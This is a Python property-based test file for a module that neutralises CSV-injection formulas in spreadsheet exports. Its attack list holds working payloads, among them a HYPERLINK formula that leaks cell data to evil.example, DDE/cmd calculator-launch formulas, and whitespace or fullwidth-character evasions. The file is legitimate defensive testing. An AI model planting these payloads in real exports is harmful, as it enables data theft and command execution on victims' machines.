"""Formula neutralisation of spreadsheet cells (OWASP CSV injection), property-tested."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from xinyong.core.spreadsheet import (
    FORMULA_TRIGGERS,
    SafeCsvWriter,
    formula_safe,
    needs_quote,
    neutralise,
    restore,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]

# Texts made mostly of the characters that matter, so the interesting cases are found quickly.
cell_texts = st.text(
    alphabet=st.sampled_from(sorted(FORMULA_TRIGGERS) + list("'\t\r\n 　\u200b\ufeff0123456789.eE-+AB中")),
    max_size=12,
) | st.text(max_size=30)


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_texts_get_a_leading_quote(attack):
    assert needs_quote(attack)
    assert neutralise(attack) == "'" + attack
    assert restore(neutralise(attack)) == attack


@pytest.mark.parametrize("number", ["-1.5", "+3", "-0.25", "1e-3", "-12", ".5"])
def test_plain_numbers_stay_numbers(number):
    assert neutralise(number) == number


@pytest.mark.parametrize("text", ["甲市第1贸易有限公司", "A-1", "1+1", "", "913600001234567890"])
def test_ordinary_texts_are_unchanged(text):
    assert neutralise(text) == text and restore(text) == text


def test_a_quote_the_department_typed_is_kept_on_the_round_trip():
    assert neutralise("'=1") == "''=1" and restore("''=1") == "'=1"
    assert neutralise("'abc") == "''abc" and restore("''abc") == "'abc"


@given(cell_texts)
@example("-1.5")
@example("'")
def test_no_neutralised_cell_starts_with_a_trigger(text):
    assert formula_safe(neutralise(text))


@given(cell_texts)
def test_restore_gives_the_original_back(text):
    assert restore(neutralise(text)) == text


@given(st.lists(st.one_of(cell_texts, st.integers(), st.floats(), st.decimals(), st.none()), max_size=6))
@example([float("-inf"), -1.5, "=1+1"])
def test_the_csv_export_writer_writes_no_formula(cells):
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(cells)
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert all(formula_safe(cell) for cell in row)
